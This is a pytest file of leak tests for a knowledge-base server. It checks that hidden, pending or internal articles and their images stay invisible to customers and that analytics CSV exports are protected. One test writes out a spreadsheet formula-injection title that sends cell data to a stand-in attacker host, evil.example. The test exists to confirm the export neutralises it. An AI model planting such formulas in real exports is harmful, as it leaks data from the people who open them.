"""Customer attacks on issue 20's staff tools (images, review, events,
console filters) that the features' own tests do not try: an image only a
pending change shows, an image a change under review removes, the answers
for a hidden image and a missing one, events naming hidden articles."""
import os
import struct
import time
import zlib

import pytest
import requests

from kbtest import SAMPLES, run_indexer
from server import KbServer, add_user

WRITER_A = ("writer-leak-a", "writer-password-a")
WRITER_B = ("writer-leak-b", "writer-password-b")
AGENT = ("agent-leak", "agent-password-1")
ADMIN = ("admin-leak", "admin-password-1")


def png(w, h):
    raw = b"".join(b"\x00" + b"\x20\x40\x60" * w for _ in range(h))

    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xffffffff))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


@pytest.fixture(scope="module")
def srv(tmp_path_factory):
    d = tmp_path_factory.mktemp("kb-leak20")
    run_indexer(d, "add", os.path.join(SAMPLES, "articles"))
    add_user(d, *WRITER_A, "writer")
    add_user(d, *WRITER_B, "writer")
    add_user(d, *AGENT, "agent")
    add_user(d, *ADMIN, "admin")
    with KbServer(d) as s:
        yield s


@pytest.fixture(scope="module")
def amy(srv):
    return srv.login(*WRITER_A)


@pytest.fixture(scope="module")
def bob(srv):
    return srv.login(*WRITER_B)


@pytest.fixture(scope="module")
def agent(srv):
    return srv.login(*AGENT)


@pytest.fixture(scope="module")
def admin(srv):
    return srv.login(*ADMIN)


@pytest.fixture
def review_all(srv, admin):
    r = admin.put(srv.url("/api/v1/admin/review"), json={"mode": "all"}, timeout=30)
    assert r.status_code == 200, r.text
    yield
    admin.put(srv.url("/api/v1/admin/review"), json={"mode": "off"}, timeout=30)


SEQ = [40]


def upload(srv, writer):
    SEQ[0] += 1
    r = writer.post(srv.url("/api/v1/media"), data=png(SEQ[0], 3),
                    headers={"Content-Type": "image/png"}, timeout=30)
    assert r.status_code == 201, r.text
    return r.json()["url"]


def customer_get(srv, url):
    return requests.get(srv.url(url), timeout=30)


def published(srv, writer, body, **fields):
    fields.update(title="Leak test %s" % time.time(), body=body)
    r = writer.post(srv.url("/api/v1/articles"), json=fields, timeout=30)
    assert r.status_code == 201, r.text
    a = r.json()
    r = writer.post(srv.url("/api/v1/articles/%s/publish" % a["ref"]), timeout=30)
    assert r.status_code == 200, r.text
    return r.json()


def test_an_image_a_change_in_review_adds_stays_hidden_and_the_live_one_stays(
        srv, amy, bob, review_all, admin):
    admin.put(srv.url("/api/v1/admin/review"), json={"mode": "off"}, timeout=30)
    old, new = upload(srv, amy), upload(srv, amy)
    a = published(srv, amy, "![old](%s)" % old)
    assert customer_get(srv, old).status_code == 200
    admin.put(srv.url("/api/v1/admin/review"), json={"mode": "all"}, timeout=30)
    r = amy.put(srv.url("/api/v1/articles/%s" % a["ref"]), json={"body": "![new](%s)" % new},
                timeout=30)
    assert r.status_code in (200, 202), r.text
    assert customer_get(srv, old).status_code == 200   # the live article still shows it
    assert customer_get(srv, new).status_code == 404   # only the pending change does
    r = bob.post(srv.url("/api/v1/articles/%s/approve" % a["ref"]), timeout=30)
    assert r.status_code == 200, r.text
    assert customer_get(srv, new).status_code == 200
    assert customer_get(srv, old).status_code == 404
    # reverting to the first revision waits too: the old image stays hidden
    revs = amy.get(srv.url("/api/v1/articles/%s/revisions" % a["ref"]), timeout=30).json()
    first = min(x["rev"] for x in revs["revisions"])
    r = amy.post(srv.url("/api/v1/articles/%s/revert" % a["ref"]), json={"rev": first},
                 timeout=30)
    assert r.status_code in (200, 202), r.text
    assert customer_get(srv, old).status_code == 404
    assert customer_get(srv, new).status_code == 200
    # archiving takes the live image away at once
    assert amy.post(srv.url("/api/v1/articles/%s/archive" % a["ref"]),
                    timeout=30).status_code in (200, 202)
    assert customer_get(srv, new).status_code == 404


def strip(resp):
    h = {k.lower(): v for k, v in resp.headers.items() if k.lower() not in ("date",)}
    return resp.status_code, h, resp.content


def test_a_hidden_image_answers_exactly_as_a_missing_one(srv, amy):
    hidden = upload(srv, amy)
    published(srv, amy, "![i](%s)" % hidden, audience="internal")
    missing = "/kb/media/uploads/sha256-%s.png" % ("0" * 64)
    assert strip(customer_get(srv, hidden)) == strip(customer_get(srv, missing))
    html = {"Accept": "text/html"}
    a = requests.get(srv.url(hidden), headers=html, timeout=30)
    b = requests.get(srv.url(missing), headers=html, timeout=30)
    assert strip(a) == strip(b)


def test_events_on_hidden_articles_answer_as_on_missing_ones(srv, amy, agent):
    internal = published(srv, amy, "zqinternal body", audience="internal")["number"]
    r = amy.post(srv.url("/api/v1/articles"), json={"title": "Leak draft", "body": "d"},
                 timeout=30)
    draft = r.json()["number"]
    missing = 99999999
    for kind in ("copy", "solved", "click", "view"):
        answers = []
        for n in (internal, draft, missing):
            r = requests.post(srv.url("/api/v1/events"), json={"type": kind, "article": n},
                              timeout=30)
            answers.append((r.status_code, r.text.replace(str(n), "N")))
        assert answers[0] == answers[2] and answers[1] == answers[2], (kind, answers)
        assert answers[2][0] == 404
    # an agent reads no drafts: naming one answers as a missing number does
    a = agent.post(srv.url("/api/v1/events"), json={"type": "copy", "article": draft}, timeout=30)
    m = agent.post(srv.url("/api/v1/events"), json={"type": "copy", "article": missing},
                   timeout=30)
    assert (a.status_code, a.text.replace(str(draft), "N")) == \
        (m.status_code, m.text.replace(str(missing), "N"))


def test_an_imported_image_leaves_customers_with_its_public_article(tmp_path_factory):
    """An image imported with a public article stayed public for good once
    shown (the media row's sticky public flag), though the article turned
    internal, was unpublished or archived."""
    d = tmp_path_factory.mktemp("kb-leak20-import")
    help_dir = tmp_path_factory.mktemp("help") / "zqhelp"
    (help_dir / "figures").mkdir(parents=True)
    img = png(9, 9)
    (help_dir / "figures" / "wiring.png").write_bytes(img)
    page = ("<page xmlns='http://projectmallard.org/1.0/' type='topic' id='wiring'>"
            "<title>Zqwiring diagram</title><p>The zqwiring diagram.</p>"
            "<media type='image' src='figures/wiring.png'/></page>")
    (help_dir / "wiring.page").write_text(page)
    run_indexer(d, "add", str(help_dir))
    add_user(d, *WRITER_A, "writer")
    with KbServer(d) as s:
        key = "/kb/media/zqhelp/figures/wiring.png"
        r = requests.get(s.url("/api/v1/search"), params={"q": "zqwiring"}, timeout=30)
        ref = r.json()["hits"][0]["ref"]
        assert customer_get(s, key).content == img  # shown by a public article
        w = s.login(*WRITER_A)
        r = w.put(s.url("/api/v1/articles/%s" % ref), json={"audience": "internal"}, timeout=30)
        assert r.status_code == 200, r.text
        assert customer_get(s, key).status_code == 404
        assert w.get(s.url(key), timeout=30).content == img  # staff still see it
        w.put(s.url("/api/v1/articles/%s" % ref), json={"audience": "public"}, timeout=30)
        assert customer_get(s, key).content == img
        assert w.post(s.url("/api/v1/articles/%s/unpublish" % ref), timeout=30).ok
        assert customer_get(s, key).status_code == 404
    # imported again as internal: the image is internal too
    run_indexer(d, "add", "--audience", "internal", str(help_dir))
    with KbServer(d) as s:
        assert customer_get(s, "/kb/media/zqhelp/figures/wiring.png").status_code == 404


def test_a_change_in_review_changes_nothing_a_customer_gets(srv, amy, admin, review_all):
    """Not the text, nor a date, an ETag or a count: byte for byte the same
    article answer, page and sitemap while a change waits."""
    admin.put(srv.url("/api/v1/admin/review"), json={"mode": "off"}, timeout=30)
    a = published(srv, amy, "zqsteady words here")
    admin.put(srv.url("/api/v1/admin/review"), json={"mode": "all"}, timeout=30)

    def snapshot():
        api = requests.get(srv.url("/api/v1/articles/%s" % a["ref"]), timeout=30)
        page = requests.get(srv.url("/kb/%d" % a["number"]), timeout=30)
        smap = requests.get(srv.url("/sitemap.xml"), timeout=30)
        heads = ("etag", "last-modified", "content-length")
        return (api.text, page.text, smap.text,
                {k: v for k, v in api.headers.items() if k.lower() in heads},
                {k: v for k, v in page.headers.items() if k.lower() in heads})
    before = snapshot()
    time.sleep(1.1)  # a new timestamp would differ
    r = amy.put(srv.url("/api/v1/articles/%s" % a["ref"]),
                json={"body": "zqchanged words", "title": "Zqchanged title"}, timeout=30)
    assert r.status_code in (200, 202), r.text
    after = snapshot()
    for x, y in zip(before, after):
        assert x == y


def test_a_publish_requests_image_waits_for_approval(srv, amy, bob, review_all):
    img = upload(srv, amy)
    r = amy.post(srv.url("/api/v1/articles"), json={"title": "Zqrequest %s" % time.time(),
                                                     "body": "![r](%s)" % img}, timeout=30)
    a = r.json()
    r = amy.post(srv.url("/api/v1/articles/%s/publish" % a["ref"]), timeout=30)
    assert r.status_code == 202, r.text
    assert customer_get(srv, img).status_code == 404
    r = bob.post(srv.url("/api/v1/articles/%s/approve" % a["ref"]), timeout=30)
    assert r.status_code == 200, r.text
    assert customer_get(srv, img).status_code == 200
    # unpublishing under review withdraws at once
    assert amy.post(srv.url("/api/v1/articles/%s/unpublish" % a["ref"]), timeout=30).ok
    assert customer_get(srv, img).status_code == 404


def test_a_gaps_prefilled_draft_carries_no_customers_personal_data(srv, admin):
    """A customer who types their address or number into the search box
    makes a content gap; its 'write an article' link prefills a draft a
    writer may publish to every customer: the examples are redacted there,
    as the emerging problems' are."""
    import urllib.parse
    q = "zqgap router for jane.roe@example.com call +1 415 555 0199"
    for _ in range(2):
        r = requests.get(srv.url("/api/v1/search"), params={"q": q}, timeout=30)
        assert r.status_code == 200, r.text  # found nothing it opened: a gap
    r = admin.get(srv.url("/api/v1/analytics/gaps"), timeout=30)
    assert r.status_code == 200, r.text
    gaps = [g for g in r.json()["gaps"] if "zqgap" in g["words"]]
    assert gaps, r.json()["gaps"]
    qs = urllib.parse.parse_qs(urllib.parse.urlsplit(gaps[0]["write_url"]).query)
    prefill = qs["title"][0] + "\n" + qs["body"][0]
    assert "zqgap" in prefill
    for pii in ("jane.roe", "example.com", "555 0199"):
        assert pii not in prefill, prefill
    assert "[email]" in prefill and "[phone]" in prefill


def test_an_image_address_written_as_text_publishes_no_image(srv, amy):
    """A public article that shows HTML as code (`<img src="/kb/media/...">`)
    names an internal article's image in its text, not as an image: the
    image stays internal."""
    secret = upload(srv, amy)
    published(srv, amy, "![s](%s)" % secret, audience="internal")
    assert customer_get(srv, secret).status_code == 404
    a = published(srv, amy, 'Embed it with `<img src="%s">` in your page.\n\n'
                            '    <img src="%s">\n' % (secret, secret))
    page = requests.get(srv.url("/kb/%d" % a["number"]), timeout=30).text
    assert "&lt;img src=" in page  # shown as code
    assert customer_get(srv, secret).status_code == 404
    b = published(srv, amy, '<p>Write <code>&lt;img src="%s"&gt;</code> or src="%s".</p>'
                            % (secret, secret), format="html")
    page = requests.get(srv.url("/kb/%d" % b["number"]), timeout=30).text
    assert "&lt;img src=" in page
    assert customer_get(srv, secret).status_code == 404



def test_the_consoles_filters_find_a_customer_nothing_internal(srv, amy, agent):
    published(srv, amy, "zqvault sealing steps", audience="internal",
              category="zqvault-internal")
    deadline = time.monotonic() + 10
    while True:  # indexed: staff find it
        r = agent.get(srv.url("/api/v1/search"), params={"category": "zqvault-internal"},
                      timeout=30)
        assert r.status_code == 200, r.text
        if r.json()["total"] >= 1:
            break
        assert time.monotonic() < deadline, r.text
        time.sleep(0.05)
    for params in ({"category": "zqvault-internal"}, {"q": "zqvault"},
                   {"category": "zqvault-internal", "audience": "internal"},
                   {"product": "Nimbus Router 5", "audience": "internal"},
                   {"product": "Nimbus Router 5", "q": "zqvault"}):
        r = requests.get(srv.url("/api/v1/search"), params=params, timeout=30)
        assert r.status_code == 200, r.text
        body = r.json()
        assert body["total"] == 0 and body["hits"] == [] and body["facets"] == [], (params, body)
        assert "zqvault-internal" not in r.text and "sealing" not in r.text
    r = requests.get(srv.url("/api/v1/suggest"), params={"q": "zqvau"}, timeout=30)
    assert r.json()["suggestions"] == []


def test_a_writers_formula_title_is_neutralised_in_every_csv(srv, amy, admin, agent):
    import csv
    import io
    title = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    r = amy.post(srv.url("/api/v1/articles"), json={"title": title, "body": "zqformula"},
                 timeout=30)
    a = r.json()
    assert amy.post(srv.url("/api/v1/articles/%s/publish" % a["ref"]), timeout=30).ok
    assert requests.get(srv.url("/kb/%d" % a["number"]), timeout=30).status_code == 200
    r = agent.post(srv.url("/api/v1/events"), json={"type": "copy", "article": a["number"]},
                   timeout=30)
    assert r.status_code == 202, r.text
    for route in ("views", "agents"):
        r = admin.get(srv.url("/api/v1/analytics/" + route), params={"format": "csv"},
                      timeout=30)
        assert r.status_code == 200, r.text
        cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
        assert "'" + title in cells, (route, r.text)
        assert title not in cells
        assert not any(c[:1] in ("=", "+", "-", "@") for c in cells if not c.lstrip("-").replace(".", "").isdigit()), r.text
